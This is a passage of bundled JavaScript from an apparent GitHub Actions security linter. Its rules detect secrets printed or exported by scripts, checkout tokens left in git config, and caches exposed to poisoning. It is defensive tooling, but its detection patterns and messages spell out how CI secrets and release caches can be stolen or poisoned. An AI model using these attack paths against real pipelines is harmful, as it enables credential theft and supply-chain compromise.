    constructor(source, run, span, rawStart, raw) {
        this.source = source;
        this.run = run;
        this.span = span;
        this.rawStart = rawStart;
        this.raw = raw;
        this.text = span.text;
    }
    get pos() {
        this.startPos ??= this.span.start >= 0 ? this.source.position(this.rawStart + this.span.start) : this.source.positionOf(this.run);
        return this.startPos;
    }
    find(needle) {
        const { start, end } = this.span;
        if (start < 0)
            return this.pos;
        const at = this.raw.slice(start, end).indexOf(needle);
        return at < 0 ? this.pos : this.source.position(this.rawStart + start + at);
    }
}
/** Removes a shell comment: a `#` at the start or after whitespace, outside quotes. */
function script_lines_stripComment(line) {
    let quote;
    for (let i = 0; i < line.length; i++) {
        const ch = line[i];
        if (quote) {
            if (ch === quote)
                quote = undefined;
            else if (ch === "\\" && quote === '"')
                i++;
            continue;
        }
        if (ch === "'" || ch === '"')
            quote = ch;
        else if (ch === "\\")
            i++;
        else if (ch === "#" && (i === 0 || /\s/.test(line[i - 1] ?? "")))
            return line.slice(0, i).trimEnd();
    }
    return line;
}
/**
 * The simple commands of a line: split on `;`, `&&`, `||`, `|` and `&` outside quotes, each
 * trimmed. Enough to tell `npm publish --dry-run` from `npm publish; echo --dry-run`.
 */
function script_lines_commandsOf(line) {
    const out = [];
    let quote;
    let from = 0;
    for (let i = 0; i < line.length; i++) {
        const ch = line[i];
        if (quote) {
            if (ch === quote)
                quote = undefined;
            else if (ch === "\\" && quote === '"')
                i++;
            continue;
        }
        if (ch === "'" || ch === '"')
            quote = ch;
        else if (ch === "\\")
            i++;
        else if (ch === ";" || ch === "|" || ch === "&") {
            if (ch === "&" && (line[i - 1] === ">" || line[i + 1] === ">" || line[i - 1] === "<"))
                continue; // 2>&1, &>, <&
            const double = (ch === "|" || ch === "&") && line[i + 1] === ch;
            pushCommand(out, line.slice(from, i), double ? ch + ch : ch);
            if (double)
                i++;
            from = i + 1;
        }
    }
    pushCommand(out, line.slice(from), undefined);
    return out;
}
function pushCommand(out, text, next) {
    const trimmed = text.trim();
    if (trimmed)
        out.push({ text: trimmed, next });
}
/** The simple commands of a script line, split once and shared: do not modify the result. */
function commandsIn(line) {
    let commands = commandsCache.get(line);
    if (!commands) {
        commands = script_lines_commandsOf(line.text);
        commandsCache.set(line, commands);
    }
    return commands;
}
const commandsCache = new WeakMap();
/** The words of a simple command, split once and shared: do not modify the result. */
function wordsIn(command) {
    let words = wordsCache.get(command);
    if (!words) {
        words = wordsOf(command.text);
        wordsCache.set(command, words);
    }
    return words;
}
const wordsCache = new WeakMap();
/** Words of a simple command, quotes removed (no expansion). */
function wordsOf(command) {
    const words = [];
    let quote;
    let current = "";
    let has = false;
    for (let i = 0; i < command.length; i++) {
        const ch = command[i];
        if (quote) {
            if (ch === quote)
                quote = undefined;
            else
                current += ch;
            continue;
        }
        if (ch === "'" || ch === '"') {
            quote = ch;
            has = true;
        }
        else if (isSpace(ch)) {
            if (has || current)
                words.push(current);
            current = "";
            has = false;
        }
        else {
            current += ch;
            has = true;
        }
    }
    if (has || current)
        words.push(current);
    return words;
}
/** `/\s/.test(ch)`, without the regular expression for printable ASCII. */
function isSpace(ch) {
    const code = ch.charCodeAt(0);
    if (code > 32 && code < 127)
        return false;
    return /\s/.test(ch);
}
//# sourceMappingURL=script-lines.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/secrets-exposure.js






/**
 * Secrets handed out wider than the step that needs them: the whole `secrets` context, secrets
 * in the workflow-level `env:`, secrets printed or exported by a script, and secrets in a job
 * that runs pull-request code under a privileged trigger.
 */
const secretsExposure = {
    id: "secrets-exposure",
    title: "Secret exposed beyond the step that needs it",
    severity: "medium",
    confidence: "medium",
    targets: ["workflow"],
    check(ctx) {
        const { target } = ctx;
        if (target.kind !== "workflow")
            return;
        wholeContext(ctx, target);
        workflowEnv(ctx, target);
        const privileged = [...(0,walk/* eventNames */.Z2)(target)].filter((e) => walk/* PRIVILEGED_TRIGGERS */.wV.has(e));
        for (const job of target.jobs) {
            for (const step of job.steps)
                scriptSinks(ctx, target, job, step);
            untrustedJob(ctx, target, job, privileged);
        }
    },
};
/** `toJSON(secrets)` and `secrets[expr]`: the runner must send every secret to the job. */
function wholeContext(ctx, workflow) {
    const source = workflow.source;
    const root = source.root;
    const seen = new Set();
    for (const ref of secretRefsIn(source, root)) {
        if (ref.kind === "named")
            continue;
        const key = `${ref.pos.line}:${ref.pos.column}`;
        if (seen.has(key))
            continue;
        seen.add(key);
        const job = jobAt(workflow, ref.node);
        const where = job ? `job ${job.id}` : "the workflow";
        ctx.report({
            at: ref.pos,
            job: job?.id,
            severity: ref.kind === "all" ? "high" : "medium",
            confidence: "high",
            message: ref.kind === "all"
                ? `${ref.expression} in ${where} hands every secret of the repository and organization to one value; read each secret it needs by name (\`secrets.NAME\`)`
                : `${ref.expression} in ${where} indexes secrets with an expression, so the runner sends every secret to the job; read each secret it needs by name, for example in a matrix of \`secrets.NAME\` values`,
        });
    }
}
/** Secrets in the workflow-level `env:` reach every step of every job, third-party actions included. */
function workflowEnv(ctx, workflow) {
    const source = workflow.source;
    const env = (0,model_source/* valueOf */.RP)(source.root, "env");
    for (const [name, pair] of (0,model_source/* entries */.jO)(env)) {
        const refs = secretRefsIn(source, pair.value).filter((r) => r.kind === "named" && !isGithubToken(r) && !r.sanitized);
        if (refs.length === 0)
            continue;
        const jobs = workflow.jobs.filter((j) => !j.uses).length;
        if (jobs === 0)
            continue; // env: does not reach reusable workflows
        ctx.report({
            at: source.positionOf(pair),
            message: `workflow-level env ${name} puts ${refs.map((r) => `secrets.${r.name}`).join(", ")} in the environment of every step of ${jobs === 1 ? "the job" : `all ${jobs} jobs`}, third-party actions included; set it in the env: of the step that uses it`,
        });
    }
}
const SINK_TEXT = {
    env: "exports it through GITHUB_ENV to every later step of the job, third-party actions included",
    output: "writes it to GITHUB_OUTPUT, where expressions that read the output can copy it around unmasked",
    summary: "writes it to the job summary",
    log: "prints it to the log, where masking only catches the exact value",
};
const SINK_FIX = {
    env: "pass it in the env: of each step that needs it instead",
    output: "pass the secret itself to the steps that need it instead",
    summary: "do not write secrets to the summary",
    log: "do not print it",
};
/** `echo`/`printf` of a secret to the log, GITHUB_ENV, GITHUB_OUTPUT or the step summary. */
function scriptSinks(ctx, workflow, job, step) {
    const script = (0,model_source/* scalarText */.ws)(step.run) ?? "";
    if (!step.run || !MAY_PRINT.test(script))
        return;
    const source = workflow.source;
    // Which env variables hold secrets is only worked out for a command that prints somewhere, or
    // here when the script cannot name a secret itself: then it can only print one through them.
    let vars;
    if (!/secrets/i.test(script)) {
        if (!script.includes("$"))
            return;
        vars = secretVariables(workflow, job, step);
        if (vars.size === 0)
            return;
    }
    for (const line of script_lines_scriptLines(source, step.run)) {
        for (const command of commandsIn(line)) {
            if (!MAY_START_PRINT.has(command.text[0] ?? ""))
                continue;
            const words = wordsIn(command);
            if (words[0] !== "echo" && words[0] !== "printf")
                continue;
            if (command.text.includes("::add-mask::"))
                continue;
            if (command.next === "|")
                continue; // fed to another command's stdin: `| docker login --password-stdin`
            const sink = sinkOf(command.text);
            if (!sink)
                continue;
            const hit = secretIn(command.text, (vars ??= secretVariables(workflow, job, step)));
            if (!hit)
                continue;
            ctx.report({
                at: line.find(hit.needle),
                job: job.id,
                step: step.index,
                severity: sink === "env" || sink === "summary" ? "medium" : "low",
                confidence: sink === "log" ? "medium" : "high",
                message: `step ${step.name ?? step.index + 1} of job ${job.id} ${words[0]}s ${hit.name} and ${SINK_TEXT[sink]}; ${SINK_FIX[sink]}`,
            });
        }
    }
}
/** `echo` or `printf` in a script, quotes allowed between the letters (`e"cho"` is `echo` to the shell). */
const MAY_PRINT = /e['"]*c['"]*h['"]*o|p['"]*r['"]*i['"]*n['"]*t['"]*f/;
/** How a command whose first word is `echo` or `printf` can begin. */
const MAY_START_PRINT = new Set(["e", "p", "'", '"']);
/** Where an echo's output goes; undefined for an ordinary file (writing a credentials file is normal). */
function sinkOf(command) {
    const redirect = /(?:^|[^0-9&])>>?\s*("?)(\$\{?(\w+)\}?|[^\s"]+)\1/.exec(command);
    if (!redirect)
        return "log";
    const variable = redirect[3];
    if (variable === "GITHUB_ENV")
        return "env";
    if (variable === "GITHUB_OUTPUT")
        return "output";
    if (variable === "GITHUB_STEP_SUMMARY")
        return "summary";
    if (/^&2$/.test(redirect[2] ?? "") || redirect[2] === "/dev/stderr" || redirect[2] === "/dev/stdout")
        return "log";
    return undefined;
}
/** Env variable names (step, job and workflow env) whose value reads a stored secret. */
function secretVariables(workflow, job, step) {
    const out = new Map();
    const source = workflow.source;
    for (const env of [workflow.env, job.env, step.env]) {
        for (const [name, value] of env) {
            const ref = secretRefsIn(source, value).find((r) => !isGithubToken(r) && !r.sanitized);
            if (ref)
                out.set(name, ref.kind === "named" ? `secrets.${ref.name}` : ref.expression);
            else
                out.delete(name);
        }
    }
    return out;
}
function secretIn(command, vars) {
    for (const span of (0,expressions/* findExpressions */.zV)(command)) {
        const path = (0,expressions/* contextPaths */.A9)(span.inner).find((p) => !p.sanitized && (p.path === "secrets" || (p.path.startsWith("secrets.") && p.path !== "secrets.github_token")));
        if (path)
            return { name: span.text, needle: span.text };
    }
    for (const [name, secret] of vars) {
        const re = new RegExp(`\\$(?:\\{${name}\\}|${name}\\b)`);
        const m = re.exec(command);
        if (m)
            return { name: `${secret} (as $${name})`, needle: m[0] };
    }
    return undefined;
}
/**
 * A job that runs pull-request code under a privileged trigger and reads stored secrets: the
 * pull request's code shares the runner with them.
 */
function untrustedJob(ctx, workflow, job, privileged) {
    if (privileged.length === 0)
        return;
    const from = pullRequestCheckoutIndex(job);
    if (from < 0)
        return;
    const source = workflow.source;
    const refs = [];
    for (const value of [...workflow.env.values(), ...job.env.values()])
        refs.push(...secretRefsIn(source, value));
    for (const step of job.steps.slice(from))
        refs.push(...secretRefsIn(source, step.node));
    const stored = refs.filter((r) => !isGithubToken(r) && !r.sanitized);
    const first = stored[0];
    if (!first)
        return;
    const names = [...new Set(stored.map((r) => (r.kind === "named" ? `secrets.${r.name}` : r.expression)))];
    ctx.report({
        at: first.pos,
        job: job.id,
        severity: "high",
        confidence: "medium",
        message: `job ${job.id} checks out pull-request code under ${privileged.join("/")} and reads ${names.join(", ")} in the same job, where that code can reach ${names.length === 1 ? "it" : "them"}; run the pull request's code in a separate job without secrets (for example on pull_request) and pass results as artifacts`,
    });
}
/** The job whose body contains a node, if any. */
function jobAt(workflow, node) {
    const at = node.range?.[0];
    if (at === undefined)
        return undefined;
    return workflow.jobs.find((job) => {
        const range = job.node.range;
        return range !== undefined && range !== null && range[0] <= at && at < range[2];
    });
}
//# sourceMappingURL=secrets-exposure.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/credential-persistence.js






/** Actions that push with the credentials `actions/checkout` left behind. */
const PUSH_ACTIONS = new Set([
    "stefanzweifel/git-auto-commit-action",
    "endbug/add-and-commit",
    "ad-m/github-push-action",
    "peter-evans/create-pull-request",
    "changesets/action",
]);
/**
 * `actions/checkout` keeps the job's token in git's config (`persist-credentials` defaults to
 * true) for every later step of the job, and before checkout v6 inside `.git/config` of the
 * workspace, where an artifact upload of the workspace publishes it.
 */
const credentialPersistence = {
    id: "credential-persistence",
    title: "Checkout leaves the token in git's config",
    severity: "low",
    confidence: "medium",
    check(ctx) {
        const { target } = ctx;
        const source = target.source;
        const privileged = target.kind === "workflow" && [...(0,walk/* eventNames */.Z2)(target)].some((e) => walk/* PRIVILEGED_TRIGGERS */.wV.has(e));
        const jobs = target.kind === "workflow" ? target.jobs.map((job) => ({ job, steps: job.steps })) : [{ steps: target.steps }];
        for (const { job, steps } of jobs) {
            steps.forEach((checkout, i) => {
                if (!isCheckout(checkout))
                    return;
                const mode = persistence(checkout);
                if (mode === "no" || mode === "unknown")
                    return;
                const later = steps.slice(i + 1);
                if (later.length === 0 || later.some((s) => pushesWithGit(source, s)))
                    return;
                const where = job ? `in job ${job.id}` : "in this action";
                const fix = "set `persist-credentials: false` on the checkout";
                const report = (severity, confidence, message) => ctx.report({ at: source.positionOf(checkout.uses), job: job?.id, step: checkout.index, severity, confidence, message });
                const major = checkoutMajor(source, checkout);
                const inWorkspace = major === undefined || major < 6;
                const upload = inWorkspace ? later.find((s) => uploadsGitDir(source, s, input(checkout, "path"))) : undefined;
                if (upload) {
                    report("high", "high", `actions/checkout ${where} leaves the token in .git/config and step ${label(upload)} uploads the workspace with it as an artifact that anyone who can read the repository can download; ${fix}`);
                    return;
                }
                // Asked for on purpose (`persist-credentials: true`, or a token of its own that later
                // scripts presumably push with), and nothing publishes it.
                if (mode === "explicit" || customToken(checkout))
                    return;
                const untrusted = privileged && (checksOutPullRequest(checkout) || later.some(checksOutPullRequest));
                if (untrusted) {
                    report("high", "medium", `actions/checkout ${where} leaves the token in git's config while the job runs pull-request code under a privileged trigger, so that code can read it; ${fix}`);
                    return;
                }
                const thirdParty = later.find(isThirdParty);
                if (thirdParty) {
                    report("medium", "low", `actions/checkout ${where} leaves the token in git's config for every later step, including ${(0,model_source/* scalarText */.ws)(thirdParty.uses)}; ${fix} (no later step pushes with git)`);
                    return;
                }
                report("low", "low", `actions/checkout ${where} leaves the token in git's config for every later step, though none pushes with git; ${fix}`);
            });
        }
    },
};
/** A `token:` other than the job's own GITHUB_TOKEN: a PAT or an app token, given to use it. */
function customToken(step) {
    const token = input(step, "token")?.replace(/\s+/g, "").toLowerCase();
    return token !== undefined && token !== "" && token !== "${{github.token}}" && token !== "${{secrets.github_token}}";
}
function label(step) {
    return step.name ? `"${step.name}"` : String(step.index + 1);
}
/** A remote action not maintained by GitHub, or a `docker://` image. */
function isThirdParty(step) {
    const ref = stepUses(step);
    if (!ref)
        return false;
    if (ref.kind === "docker")
        return true;
    return ref.kind === "remote" && !dist_uses/* FIRST_PARTY_OWNERS */.Jd.has(ref.owner.toLowerCase());
}
/** `git push` (or `git -C dir push`) in a script, or an action that pushes with git's config. */
function pushesWithGit(source, step) {
    const action = stepAction(step);
    if (action && PUSH_ACTIONS.has(action))
        return true;
    if (!step.run || !MAY_PUSH.test((0,model_source/* scalarText */.ws)(step.run) ?? ""))
        return false;
    for (const line of script_lines_scriptLines(source, step.run)) {
        for (const command of commandsIn(line)) {
            if (!MAY_PUSH.test(command.text))
                continue;
            const words = wordsIn(command);
            if (words[0] === "mike" && words.includes("--push"))
                return true;
            if (gitSubcommand(words) === "push")
                return true;
        }
    }
    return false;
}
/** `push` as a word, quotes allowed between the letters: both `git push` and `mike deploy --push` need it. */
const MAY_PUSH = /p['"]*u['"]*s['"]*h/;
/** The subcommand of a `git` command (`git -C dir -c k=v push` → `push`). */
function gitSubcommand(words) {
    const at = words.findIndex((w) => w === "git" || w.endsWith("/git"));
    if (at < 0)
        return undefined;
    for (let i = at + 1; i < words.length; i++) {
        const word = words[i];
        if (word === "-C" || word === "-c")
            i++;
        else if (!word.startsWith("-"))
            return word;
    }
    return undefined;
}
/**
 * True when an artifact upload can include `.git` of the checkout: the path is the workspace
 * (`.`, `./`, `${{ github.workspace }}`), the checkout's own directory, or names `.git`; and the
 * upload keeps hidden files (upload-artifact below v4.4 always did; later versions only with
 * `include-hidden-files: true`).
 */
function uploadsGitDir(source, step, checkoutPath) {
    if (stepAction(step) !== "actions/upload-artifact")
        return false;
    const paths = (input(step, "path") ?? "")
        .split(/\r?\n/)
        .map((p) => p.trim())
        .filter((p) => p && !p.startsWith("!"));
    const own = checkoutPath?.trim().replace(/^\.\//, "").replace(/\/$/, "");
    const dangerous = paths.some((p) => {
        const bare = p.replace(/^\.\//, "").replace(/\/$/, "");
        if (p === "." || p === "./" || p === ".." || p === "../" || bare === "")
            return true;
        if (/^\$\{\{\s*github\.workspace\s*\}\}\/?$/.test(p))
            return true;
        if (/(^|\/)\.git(\/|$)/.test(p))
            return true;
        return own !== undefined && own !== "" && bare === own;
    });
    if (!dangerous)
        return false;
    const hidden = (input(step, "include-hidden-files") ?? "").trim().toLowerCase();
    if (hidden === "true")
        return true;
    if (/(^|\/)\.git(\/|$)/.test(paths.join("\n")))
        return false; // named, but hidden files are left out
    return keepsHiddenFiles(source, step);
}
/** upload-artifact before v4.4.0 uploaded hidden files; v4.4.0 and later skip them by default. */
function keepsHiddenFiles(source, step) {
    const ref = stepUses(step);
    if (ref?.kind !== "remote")
        return false;
    const version = (0,dist_uses/* isShaRef */.AU)(ref.ref) ? versionComment(source, step) : /^v?(\d+)(?:\.(\d+))?/.exec(ref.ref ?? "");
    if (!version)
        return true; // unknown: assume the old behaviour
    const major = Number(version[1]);
    const minor = version[2] === undefined ? undefined : Number(version[2]);
    if (major !== 4)
        return major < 4;
    return minor !== undefined && minor < 4 && /^v?\d+\.\d+/.test(version[0]);
}
function versionComment(source, step) {
    const line = source.line(source.positionOf(step.uses).line);
    const hash = line.indexOf("#");
    return hash < 0 ? null : /v?(\d+)(?:\.(\d+))?/.exec(line.slice(hash));
}
//# sourceMappingURL=credential-persistence.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/knowledge/caches.js


const CACHE_ACTIONS = new Map([
    ["actions/cache", { kind: "always", off: "lookup-only", offValue: "true", fix: "drop actions/cache from this job" }],
    ["actions/cache/restore", { kind: "always", fix: "drop actions/cache/restore from this job" }],
    ["actions/setup-node", { kind: "opt-in", input: "cache", fix: "remove its cache: input" }],
    ["actions/setup-python", { kind: "opt-in", input: "cache", fix: "remove its cache: input" }],
    ["actions/setup-java", { kind: "opt-in", input: "cache", fix: "remove its cache: input" }],
    ["actions/setup-dotnet", { kind: "opt-in", input: "cache", fix: "remove its cache: input" }],
    ["actions/setup-go", { kind: "default-on", input: "cache", sinceMajor: 4, fix: "set cache: false" }],
    ["astral-sh/setup-uv", { kind: "opt-in", input: "enable-cache", fix: "set enable-cache: false" }],
    ["ruby/setup-ruby", { kind: "opt-in", input: "bundler-cache", fix: "set bundler-cache: false and run bundle install" }],
    ["graalvm/setup-graalvm", { kind: "opt-in", input: "cache", fix: "remove its cache: input" }],
    ["pyo3/maturin-action", { kind: "opt-in", input: "sccache", fix: "set sccache: false" }],
    ["swatinem/rust-cache", { kind: "always", off: "lookup-only", offValue: "true", fix: "drop Swatinem/rust-cache from this job" }],
    ["gradle/actions/setup-gradle", { kind: "always", off: "cache-disabled", offValue: "true", fix: "set cache-disabled: true" }],
    ["gradle/gradle-build-action", { kind: "always", off: "cache-disabled", offValue: "true", fix: "set cache-disabled: true" }],
    ["actions-rust-lang/setup-rust-toolchain", { kind: "default-on", input: "cache", fix: "set cache: false" }],
    ["jdx/mise-action", { kind: "default-on", input: "cache", fix: "set cache: false" }],
    ["mlugg/setup-zig", { kind: "default-on", input: "use-cache", fix: "set use-cache: false" }],
    ["oven-sh/setup-bun", { kind: "always", off: "no-cache", offValue: "true", fix: "set no-cache: true" }],
    ["ramsey/composer-install", { kind: "always", off: "ignore-cache", offValue: "true", fix: "set ignore-cache: true" }],
    ["mozilla-actions/sccache-action", { kind: "always", fix: "drop sccache from this job" }],
    ["determinatesystems/magic-nix-cache-action", { kind: "always", off: "use-gha-cache", offValue: "false", fix: "set use-gha-cache: false" }],
    ["nix-community/cache-nix-action", { kind: "always", fix: "drop the Nix cache from this job" }],
    ["awalsh128/cache-apt-pkgs-action", { kind: "always", fix: "install the packages with apt-get instead" }],
    ["docker/build-push-action", { kind: "gha-source", input: "cache-from", fix: "remove type=gha from cache-from" }],
    ["docker/bake-action", { kind: "gha-source", input: "set", fix: "remove type=gha cache sources" }],
]);
/** The input's value node, matching its name case-insensitively. */
function caches_input(step, name) {
    for (const [key, node] of step.with)
        if (key.toLowerCase() === name)
            return node;
    return undefined;
}
/** Whether a step restores a GitHub Actions cache, and how. */
function cacheUse(step, source) {
    const uses = (0,model_source/* scalarText */.ws)(step.uses);
    if (!uses || !step.uses)
        return undefined;
    const ref = (0,dist_uses/* parseUses */.Ap)(uses);
    if (ref.kind !== "remote")
        return undefined;
    const action = (0,dist_uses/* actionName */.aM)(ref);
    const control = CACHE_ACTIONS.get(action);
    if (!control)
        return undefined;
    const base = { action, fix: control.fix };
    switch (control.kind) {
        case "always": {
            const off = control.off ? caches_input(step, control.off) : undefined;
            const value = (0,model_source/* scalarText */.ws)(off)?.trim().toLowerCase();
            if (off && value === control.offValue)
                return undefined;
            if (off && value?.includes("${{"))
                return { ...base, node: off, how: "conditional", detail: `${control.off}: ${(0,model_source/* scalarText */.ws)(off)}` };
            return { ...base, node: step.uses, how: "default", detail: "restores a cache whenever it runs" };
        }
        case "opt-in": {
            const node = caches_input(step, control.input);
            const value = (0,model_source/* scalarText */.ws)(node)?.trim();
            if (!node || !value || value.toLowerCase() === "false" || value === "''")
                return undefined;
            return { ...base, node, how: value.includes("${{") ? "conditional" : "explicit", detail: `${control.input}: ${value}` };
        }
        case "default-on": {
            const node = caches_input(step, control.input);
            const value = (0,model_source/* scalarText */.ws)(node)?.trim();
            if (node && value !== undefined) {
                if (value.toLowerCase() === "false")
                    return undefined;
                return { ...base, node, how: value.includes("${{") ? "conditional" : "explicit", detail: `${control.input}: ${value}` };
            }
            const major = majorVersion(ref.ref, source, step.uses);
            if (control.sinceMajor !== undefined && major !== undefined && major < control.sinceMajor)
                return undefined;
            return { ...base, node: step.uses, how: "default", detail: `caches by default${control.sinceMajor ? ` since v${control.sinceMajor}` : ""}` };
        }
        case "gha-source": {
            const node = caches_input(step, control.input);
            const value = (0,model_source/* scalarText */.ws)(node) ?? "";
            if (!node || !/type=gha\b/.test(value))
                return undefined;
            return { ...base, node, how: "explicit", detail: `${control.input}: type=gha` };
        }
    }
}
/** Major version from `@v4`, `@v4.1.0`, or a SHA's `# v4.1.0` comment; undefined when unknown. */
function majorVersion(ref, source, node) {
    const fromRef = ref ? /^v?(\d+)(?:\.|$)/.exec(ref) : null;
    if (fromRef && fromRef[1])
        return Number(fromRef[1]);
    const line = source.line(source.positionOf(node).line);
    const comment = /#\s*v?(\d+)(?:\.\d+)*\b/.exec(line);
    return comment && comment[1] ? Number(comment[1]) : undefined;
}
//# sourceMappingURL=caches.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/knowledge/publishing.js


/** Signs that a job ships something: a release, a package, an image, a deployment, a signature. */
const PUBLISHER_ACTIONS = [
    "pypa/gh-action-pypi-publish", "rubygems/release-gem", "jreleaser/release-action", "goreleaser/goreleaser-action",
    "softprops/action-gh-release", "ncipollo/release-action", "svenstaro/upload-release-action", "js-devtools/npm-publish",
    "changesets/action", "redhat-actions/push-to-registry", "aws-actions/amazon-ecs-deploy-task-definition",
    "aws-actions/aws-cloudformation-github-deploy", "azure/webapps-deploy", "azure/functions-action", "azure/container-apps-deploy-action",
    "cloudflare/wrangler-action", "google-github-actions/deploy-cloudrun", "google-github-actions/deploy-appengine",
    "google-github-actions/deploy-cloud-functions", "actions/deploy-pages", "actions/attest-build-provenance", "actions/attest",
    "slsa-framework/slsa-github-generator",
];
const PUBLISH_COMMAND = /\b(?:npm|pnpm|yarn(?:\s+npm)?)\s+publish\b|\btwine\s+upload\b|\b(?:poetry|uv|hatch|flit)\s+publish\b|\bcargo\s+publish\b|\bgem\s+push\b|\bgh\s+release\s+(?:create|upload)\b|\bdocker\s+(?:image\s+)?push\b|\bdocker\s+buildx\s+build\b[^\n]*--push\b|\bgoreleaser\s+release\b|\bmvn\b[^\n]*\bdeploy\b|\b(?:gradle|gradlew)\b[^\n]*\bpublish\w*\b|\b(?:dotnet\s+)?nuget\s+push\b|\bhelm\s+push\b|\bcosign\s+(?:sign|attest)\b|\bvsce\s+publish\b|\bcrane\s+(?:push|copy)\b|\boras\s+push\b|\bko\s+(?:build|publish)\b/;
/** What a workflow's triggers say about releasing: `tag pushes (on.push.tags)`, `the release event`. */
function releaseTriggers(workflow) {
    const out = [];
    for (const trigger of workflow.triggers) {
        if (trigger.event === "release")
            out.push("the release event");
        if (trigger.event !== "push")
            continue;
        if ((0,model_source/* valueOf */.RP)(trigger.config, "tags") !== undefined)
            out.push("tag pushes (on.push.tags)");
        const branches = (0,model_source/* listOf */.c3)((0,model_source/* valueOf */.RP)(trigger.config, "branches")).map(model_source/* scalarText */.ws);
        if (branches.some((b) => b !== undefined && /release/i.test(b)))
            out.push("pushes to release branches");
    }
    return out;
}
/** Why a job counts as publishing (`publishes with x`, `runs npm publish`), or undefined. */
function publishes(job, workflow, byPermissions = true) {
    for (const step of job.steps) {
        const uses = (0,model_source/* scalarText */.ws)(step.uses);
        if (uses) {
            const ref = (0,dist_uses/* parseUses */.Ap)(uses);
            if (ref.kind !== "remote")
                continue;
            const name = (0,dist_uses/* actionName */.aM)(ref);
            if (name === "docker/build-push-action" && (0,model_source/* scalarText */.ws)(step.with.get("push"))?.trim() === "true")
                return `pushes an image (${name})`;
            if (name === "goreleaser/goreleaser-action" && !/^\s*release\b(?![^\n]*--snapshot)/.test((0,model_source/* scalarText */.ws)(step.with.get("args")) ?? "release"))
                continue;
            if (PUBLISHER_ACTIONS.some((p) => name === p || name.startsWith(`${p}/`)))
                return `publishes with ${name}`;
            continue;
        }
        const script = (0,model_source/* scalarText */.ws)(step.run) ?? "";
        // pushing to a local test registry ships nothing
        if (/\b(?:localhost|127\.0\.0\.1|registry\.local|kind-registry)(?::\d+)?\//.test(script))
            continue;
        // A line that matches is part of the script, so a script without a match has no such line.
        if (!PUBLISH_COMMAND.test(script))
            continue;
        for (const line of script.split("\n")) {
            const m = PUBLISH_COMMAND.exec(line);
            // a goreleaser snapshot or a dry run ships nothing
            if (m && !/--snapshot|--dry-run/.test(line))
                return `runs ${m[0].replace(/\s+/g, " ").slice(0, 40)}`;
        }
    }
    const write = byPermissions ? writeScopes(job.permissions ?? workflow.permissions) : [];
    if (write.length > 0)
        return `holds ${write.join(", ")} write permission`;
    return undefined;
}
const SHIPPING_SCOPES = ["contents", "packages", "id-token", "attestations", "deployments", "pages"];
function writeScopes(permissions) {
    if (!permissions)
        return [];
    if (permissions.kind === "all")
        return permissions.level === "write" ? ["all"] : [];
    return SHIPPING_SCOPES.filter((s) => permissions.scopes.get(s)?.level === "write");
}
/** The job hands something on: an artifact, or outputs. */
function feedsLaterJobs(job) {
    if ((0,model_source/* valueOf */.RP)(job.node, "outputs") !== undefined)
        return true;
    return job.steps.some((s) => {
        const uses = (0,model_source/* scalarText */.ws)(s.uses);
        return uses !== undefined && /^actions\/upload-artifact@/i.test(uses.trim());
    });
}
/**
 * Jobs whose restored caches can reach what ships: publishing jobs, and jobs they (transitively)
 * need that hand artifacts or outputs on. Each with the reason. Write permissions count as
 * publishing only with `byPermissions` (in workflows that release by trigger).
 */
function shippingJobs(workflow, byPermissions = true) {
    let cached = shippingCache.get(workflow);
    if (!cached)
        shippingCache.set(workflow, (cached = {}));
    const key = byPermissions ? "byPermissions" : "byContent";
    return (cached[key] ??= findShippingJobs(workflow, byPermissions));
}
/** Worked out once per workflow (and way of counting) and shared by the rules that ask. */
const shippingCache = new WeakMap();
function findShippingJobs(workflow, byPermissions) {
    const out = new Map();
    const byId = new Map(workflow.jobs.map((j) => [j.id, j]));
    const visit = (job, reason) => {
        for (const need of job.needs) {
            const dep = byId.get(need);
            if (!dep || out.has(dep.id) || !feedsLaterJobs(dep))
                continue;
            out.set(dep.id, `feeds job ${job.id}, which ${reason}`);
            visit(dep, reason);
        }
    };
    for (const job of workflow.jobs) {
        const reason = publishes(job, workflow, byPermissions) ?? (job.uses && job.secrets !== undefined ? "calls a reusable workflow with secrets" : undefined);
        if (!reason)
            continue;
        out.set(job.id, reason);
        visit(job, reason);
    }
    return out;
}
//# sourceMappingURL=publishing.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/cache-poisoning.js







/**
 * A GitHub Actions cache entry saved by any run in the default branch's scope is restored by tag
 * and release runs. So whoever gets code to run there (an injected script, a pull_request_target
 * job building a fork) chooses the dependencies and tools a release build restores. Reported:
 * cache restores in jobs that ship (release triggers, publishing steps, and the jobs feeding
 * them), and caches in pull_request_target jobs that build a fork's code.
 */
const cachePoisoning = {
    id: "cache-poisoning",
    title: "Cache restored where a poisoned entry would ship, or written by untrusted code",
    severity: "high",
    confidence: "low",
    targets: ["workflow"],
    check(ctx) {
        const workflow = ctx.target;
        if (workflow.kind !== "workflow")
            return;
        checkShipping(ctx, workflow);
        checkPullRequestTarget(ctx, workflow);
    },
};
function checkShipping(ctx, workflow) {
    const triggers = releaseTriggers(workflow);
    const shipping = shippingJobs(workflow, triggers.length > 0);
    for (const job of workflow.jobs) {
        const reason = shipping.get(job.id);
        if (!reason)
            continue;
        const why = triggers.length > 0 ? `a workflow run on ${triggers.join(" and ")}, and this job ${reason}` : `a job that ${reason}`;
        for (const step of job.steps) {
            const use = cacheUse(step, workflow.source);
            if (!use)
                continue;
            ctx.report({
                at: workflow.source.positionOf(use.node),
                job: job.id,
                step: step.index,
                severity: "high",
                confidence: use.how === "explicit" && triggers.length > 0 ? "medium" : "low",
                message: `${stepLabel(step, job)} restores a GitHub Actions cache (${use.action}, ${use.detail}) in ${why}; ` +
                    `code that runs once in the default branch's cache scope can plant entries this build restores and ships; ${use.fix} in release jobs`,
            });
        }
    }
}
function checkPullRequestTarget(ctx, workflow) {
    const events = (0,walk/* eventNames */.Z2)(workflow);
    if (!events.has("pull_request_target"))
        return;
    for (const job of workflow.jobs) {
        if (excludesForks((0,model_source/* scalarText */.ws)(job.if), ["pull_request_target"]))
            continue;
        const fetch = untrustedFetches(job, events).find((f) => f.kind !== "artifact");
        if (!fetch)
            continue;
        for (const step of job.steps) {
            const use = cacheUse(step, workflow.source);
            if (use)
                reportWriter(ctx, workflow, job, step.index, use, fetch.what);
        }
    }
}
function reportWriter(ctx, workflow, job, index, use, fetched) {
    const step = job.steps.find((s) => s.index === index);
    ctx.report({
        at: workflow.source.positionOf(use.node),
        job: job.id,
